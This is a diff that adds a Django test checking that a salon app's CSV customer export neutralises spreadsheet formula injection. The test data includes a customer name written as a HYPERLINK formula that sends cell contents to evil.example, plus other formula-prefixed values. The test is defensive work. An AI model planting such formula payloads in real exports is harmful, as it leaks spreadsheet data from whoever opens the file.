@@ -145,3 +145,22 @@ def test_rebuilding_recreates_the_directory_from_the_facts(salon, consumer):
     assert services.rebuild_directory() == 1
     found = Customer.objects.get(consumer=consumer)
     assert (found.visits, found.spend, found.source) == (2, Decimal("136.00"), "order")
+
+
+def test_the_customer_export_neutralises_spreadsheet_formulas(client, salon):
+    """A consumer named `=HYPERLINK(...)` arrives as text, not as a formula run by Excel."""
+    import csv
+    import io
+
+    owner = salon[0]
+    attacker = make_person("13800000999", '=HYPERLINK("http://evil.example/?"&A1,"点我")')
+    buy_and_use(attacker, salon, "x1")
+    customer = Customer.objects.get(consumer=attacker)
+    Customer.objects.filter(pk=customer.pk).update(name="@SUM(1+1)", notes="-2+3")
+    client.force_login(owner.user)
+    exported = client.get("/console/customers/export.csv")
+    text = b"".join(exported.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'@SUM(1+1)" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
